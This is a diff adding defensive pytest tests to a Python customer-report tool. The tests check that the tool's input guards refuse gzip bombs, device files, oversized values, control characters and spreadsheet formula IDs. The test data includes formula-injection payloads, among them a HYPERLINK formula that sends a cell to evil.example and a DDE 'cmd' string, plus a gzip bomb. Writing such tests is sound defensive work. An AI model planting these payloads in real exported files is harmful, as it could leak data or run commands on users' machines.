@@ -453,3 +453,120 @@ def test_require_customers(tmp_path: Path) -> None:
         f"{table.path}: 5 customers, but clustering.k_max=10 needs at least 11; "
         "lower clustering.k_max or add data"
     )
+
+
+# --- hostile files and limits -------------------------------------------------------------------------
+
+
+def test_a_gzip_bomb_stops_at_the_documented_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from reportgen.io import guards
+
+    monkeypatch.setattr(guards, "MAX_UNCOMPRESSED_BYTES", 8 << 20)
+    # 64 MiB of one repeated line packs into some 60 KB; the limit (here 8 MiB) stops the expansion early
+    bomb = gzip.compress(b"CUST_ID,BALANCE,PURCHASES\n" + b"C1,1,2\n" * (64 << 20 >> 3), compresslevel=9)
+    assert len(bomb) < 1 << 20
+    message = error_of(write(tmp_path, bomb, "bomb.csv.gz"))
+    assert "expands to more than 8 MiB of text (a gzip bomb" in message
+
+
+def test_the_gzip_limit_is_stated_in_gib_and_several_members_still_read(tmp_path: Path) -> None:
+    from reportgen.io import guards
+
+    assert guards.MAX_UNCOMPRESSED_BYTES == 4 << 30
+    two = gzip.compress(b"CUST_ID,BALANCE,PURCHASES\nC1,10.5,0\n") + gzip.compress(b"C2,20,3.25\nC3,,7\n")
+    table = load_customers(write(tmp_path, two, "two.csv.gz"), CFG)
+    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]
+
+
+@pytest.mark.parametrize("special", ["/dev/zero", "/dev/urandom", "fifo"])
+def test_what_is_not_a_regular_file_is_refused_at_once(tmp_path: Path, special: str) -> None:
+    import os
+
+    path = Path(special)
+    if special == "fifo":
+        path = tmp_path / "fifo.csv"
+        os.mkfifo(path)
+    with pytest.raises(InputError, match=r"is not a regular file \(a device, FIFO or socket\)") as info:
+        load_customers(path, CFG)
+    assert str(info.value).startswith(str(path))
+
+
+def test_a_file_that_stat_calls_empty_is_read_not_trusted() -> None:
+    # /proc files report a size of 0; this one holds NUL-separated text
+    with pytest.raises(InputError) as info:
+        load_customers(Path("/proc/self/environ"), CFG)
+    assert "empty" not in str(info.value) and "binary data" in str(info.value)
+
+
+def test_a_header_with_too_many_columns_is_refused_before_reading(tmp_path: Path) -> None:
+    from reportgen.io import guards
+
+    header = "CUST_ID,BALANCE,PURCHASES," + ",".join(f"x{i}" for i in range(guards.MAX_COLUMNS))
+    message = error_of(write(tmp_path, header + "\nC1,1,2\n"))
+    assert "line 1 has 10,003 columns; at most 10,000 are read" in message
+
+
+@pytest.mark.parametrize("value", ["1e308", "-1.5e300", "2e15"])
+def test_huge_values_are_an_error_naming_column_and_line(tmp_path: Path, value: str) -> None:
+    message = error_of(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,3,{value}\n"))
+    assert "column PURCHASES, line 3" in message and "beyond +/-1e+15" in message
+
+
+def test_cr_only_line_ends_are_read_as_lines(tmp_path: Path) -> None:
+    table = load_customers(write(tmp_path, GOOD.replace("\n", "\r")), CFG)
+    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]
+    assert any("CR only" in note for note in table.notes)
+
+
+def test_a_nul_in_an_id_past_the_first_8_kb_is_an_error(tmp_path: Path) -> None:
+    rows = "".join(f"C{i},1,2\n" for i in range(2000))  # about 18 KB
+    content = "CUST_ID,BALANCE,PURCHASES\n" + rows + "C\x00evil,1,2\n"
+    message = error_of(write(tmp_path, content))
+    assert "line 2002" in message and "control character" in message and "CUST_ID" in message
+
+
+def test_an_overlong_id_is_refused(tmp_path: Path) -> None:
+    message = error_of(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\n{'x' * 300},1,2\n"))
+    assert "line 3, is 300 characters; at most 200" in message
+
+
+@pytest.mark.parametrize(
+    "bad",
+    ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"],
+)
+def test_ids_a_spreadsheet_would_run_are_refused_unless_allowed(tmp_path: Path, bad: str) -> None:
+    from reportgen.io.guards import refuse_formula_ids
+
+    quoted = '"' + bad.replace('"', '""') + '"'
+    table = load_customers(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\n{quoted},3,4\n"), CFG)
+    with pytest.raises(InputError) as info:
+        refuse_formula_ids(table, allowed=False)
+    message = str(info.value)
+    assert "data.csv" in message and "(data row 2)" in message and "report.allow_formula_ids" in message
+    refuse_formula_ids(table, allowed=True)  # the user's explicit choice: ids written as they are
+
+
+def test_numbers_with_a_sign_are_not_formulas(tmp_path: Path) -> None:
+    from reportgen.io.guards import refuse_formula_ids
+
+    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n-17,1,2\n+4420,3,4\n"), CFG)
+    refuse_formula_ids(table, allowed=False)
+
+
+def test_a_transaction_log_whose_sums_overflow_is_an_error_naming_the_customer(tmp_path: Path) -> None:
+    from datetime import date
+
+    from reportgen.config import TransactionConfig
+    from reportgen.io.guards import refuse_unusable_values
+    from reportgen.io.transactions import load_transactions
+
+    rows = "".join(
+        f"{i},P{i % 3},2,2026-11-{i % 28 + 1:02d} 10:00,{i % 7 + 1}.5,C{i % 20}\n" for i in range(200)
+    )
+    header = "InvoiceNo,StockCode,Quantity,InvoiceDate,UnitPrice,CustomerID\n"
+    log = write(tmp_path, header + rows + "999,P1,2,2026-11-03 10:00,1e308,C7\n", "log.csv")
+    table = load_transactions(log, TransactionConfig(), date(2026, 11, 30))
+    with pytest.raises(InputError, match=r"log\.csv: monetary of customer 'C7' is inf, beyond \+/-1e\+15"):
+        refuse_unusable_values(table)
+    fine = write(tmp_path, header + rows, "fine.csv")
+    refuse_unusable_values(load_transactions(fine, TransactionConfig(), date(2026, 11, 30)))
